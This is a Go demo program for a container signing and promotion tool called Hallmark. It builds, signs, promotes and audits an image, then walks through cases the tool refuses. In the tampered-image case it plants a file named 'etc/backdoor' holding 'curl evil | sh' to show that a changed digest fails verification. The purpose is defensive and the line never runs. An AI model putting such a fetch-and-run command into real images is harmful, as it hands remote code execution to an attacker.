package main

import (
	"fmt"
	"path/filepath"
	"strings"

	"github.com/google/go-containerregistry/pkg/v1/mutate"
)

const (
	// The exit codes that the story expects (design: commands).
	yes, usage, notPermitted, denied = 0, 2, 3, 20

	repository = "hallmarkd/hallmark"
	signer     = "https://github.com/" + repository + "/.github/workflows/release.yml@refs/heads/main"
	appRepo    = "demo/hallmark"
	baseRepo   = "base/busybox"
)

// build makes the images that a build job would push.
func (d *demo) build() (err error) {
	if d.commit, err = headCommit(); err != nil {
		return err
	}
	title("A build job at commit %s builds Hallmark's own image and pushes it", d.commit[:12])
	base, err := baseImage()
	if err != nil {
		return err
	}
	baseRef, err := d.push(baseRepo, "1", base)
	if err != nil {
		return err
	}
	d.base = strings.Replace(baseRef, "@", ":1@", 1)
	app, err := appImage(base, d.env.Registry+"/"+baseRepo+":1", d.commit, d.bin)
	if err != nil {
		return err
	}
	if d.app, err = d.push(appRepo, "build", app); err != nil {
		return err
	}
	fmt.Printf("  base  %s\n  app   %s\n", d.base, d.app)
	return nil
}

// sign is what the build job does next, with the token of its platform.
func (d *demo) sign() (err error) {
	title("The job signs the digest with its own OIDC token, and what its image is made of with it")
	if d.ci, err = d.token("ci", map[string]string{"sha": d.commit, "run_id": "9912"}); err != nil {
		return err
	}
	sbom, err := writeSBOM(filepath.Join(d.bin, "hallmarkd"), d.work)
	if err != nil {
		return err
	}
	_, err = d.hallmark(d.ci, yes, d.commit[:7], "sign", d.app, "--base", d.base, "--sbom", sbom, "--fact", "team=platform")
	return err
}

// promote is what the release job does.
func (d *demo) promote() (err error) {
	title("The release job promotes it: test, staging, prod")
	if d.gate, err = d.token("gate", map[string]string{"sha": d.commit, "environment": "release"}); err != nil {
		return err
	}
	for _, stage := range []string{"test", "staging"} {
		if _, err := d.hallmark(d.gate, yes, "ALLOWED", "promote", d.app, "--to-stage", stage); err != nil {
			return err
		}
	}
	if _, err = d.hallmark(d.gate, yes, "ALLOWED", "promote", d.app, "--to-stage", "prod", "--version", "1.0.0", "--reason", "first release"); err != nil {
		return err
	}
	_, err = d.hallmark(d.gate, yes, "ALLOWED", "verify", d.app, "--stage", "prod")
	return err
}

// ask is what an auditor does.
func (d *demo) ask() error {
	title("An auditor asks where it came from, and what happened")
	auditor, err := d.token("auditor", map[string]string{"environment": "audit"})
	if err != nil {
		return err
	}
	if _, err := d.hallmark(auditor, yes, d.commit, "provenance", d.app); err != nil {
		return err
	}
	if _, err := d.hallmark(auditor, yes, "PROVEN_LAYERS", "base", d.app); err != nil {
		return err
	}
	if _, err := d.hallmark(auditor, yes, "prod", "stages"); err != nil {
		return err
	}
	_, err = d.hallmark(auditor, yes, "promotion", "history", d.app)
	return err
}

// refusals shows what is refused, each with its reason.
func (d *demo) refusals() error {
	repo := d.env.Registry + "/" + appRepo

	title("Refused: a tag. It may name another image a moment later")
	if _, err := d.hallmark(d.ci, usage, "TAG_REFUSED", "sign", repo+":build"); err != nil {
		return err
	}

	title("Refused: a digest that nobody signed")
	base, err := baseImage()
	if err != nil {
		return err
	}
	unsigned, err := d.push(appRepo, "unsigned", base)
	if err != nil {
		return err
	}
	if _, err := d.hallmark(d.gate, denied, "no signature over this digest", "promote", unsigned, "--to-stage", "test"); err != nil {
		return err
	}

	title("Refused: a token of another repository")
	other, err := d.token("other", map[string]string{"repository": "hallmarkd/other", "repository_id": "4711", "sha": d.commit,
		"workflow_ref":     "hallmarkd/other/.github/workflows/release.yml@refs/heads/main",
		"job_workflow_ref": "hallmarkd/other/.github/workflows/release.yml@refs/heads/main"})
	if err != nil {
		return err
	}
	if _, err := d.hallmark(other, notPermitted, "SOURCE_NOT_ALLOWED", "sign", d.app); err != nil {
		return err
	}

	title("Refused: a changed image. A change is a new digest, and that has no signature")
	app, err := appImage(base, d.env.Registry+"/"+baseRepo+":1", d.commit, d.bin)
	if err != nil {
		return err
	}
	patch, err := layer([]file{{path: "etc/backdoor", data: []byte("curl evil | sh\n")}})
	if err != nil {
		return err
	}
	if app, err = mutate.AppendLayers(app, patch); err != nil {
		return err
	}
	changed, err := d.push(appRepo, "build", app) // the tag moves; the digest is another
	if err != nil {
		return err
	}
	if _, err := d.hallmark(d.gate, denied, "never been promoted to prod", "verify", changed, "--stage", "prod"); err != nil {
		return err
	}

	title("Refused: a stage that is skipped. It is signed now, but staging never saw it")
	if _, err := d.hallmark(d.ci, yes, "", "sign", changed); err != nil {
		return err
	}
	if _, err := d.hallmark(d.gate, denied, "to be in staging first", "promote", changed, "--to-stage", "prod", "--version", "1.0.1"); err != nil {
		return err
	}

	title("Refused: a false base. Its layers are not those of the image")
	odd, err := layer([]file{{path: "etc/other-base", data: []byte("not the one\n")}})
	if err != nil {
		return err
	}
	otherBase, err := imageOn(base, odd, nil)
	if err != nil {
		return err
	}
	falseBase, err := d.push(baseRepo, "other", otherBase)
	if err != nil {
		return err
	}
	_, err = d.hallmark(d.ci, denied, "BASE_CONTRADICTED", "sign", d.app, "--base", falseBase)
	if err != nil {
		return err
	}

	title("Refused: a job that says itself which commit it built")
	_, err = d.hallmark(d.ci, usage, "CALLER_FACTS_REFUSED", "sign", d.app, "--fact", "commit=4be1d0c9a5b1f7a2c3d4e5f60718293a4b5c6d7e")
	return err
}

// stock prints how to verify without Hallmark, and leaves the files to do it with.
func (d *demo) stock() error {
	title("Verify with stock cosign: no Hallmark, no network but the registry")
	root := filepath.Join(d.work, "trusted_root.json")
	if _, err := d.hallmark(d.ci, yes, "", "trust-root", "--out-file", root); err != nil {
		return err
	}
	identity := fmt.Sprintf("--certificate-identity %s --certificate-oidc-issuer %s", signer, d.env.Issuer)
	commands := fmt.Sprintf(`cosign verify --use-signed-timestamps --trusted-root %[1]s %[2]s %[3]s
cosign verify-attestation --type slsaprovenance1 --use-signed-timestamps --trusted-root %[1]s %[2]s %[3]s
`, root, identity, d.app)
	fmt.Print(indent(commands))
	return nil
}
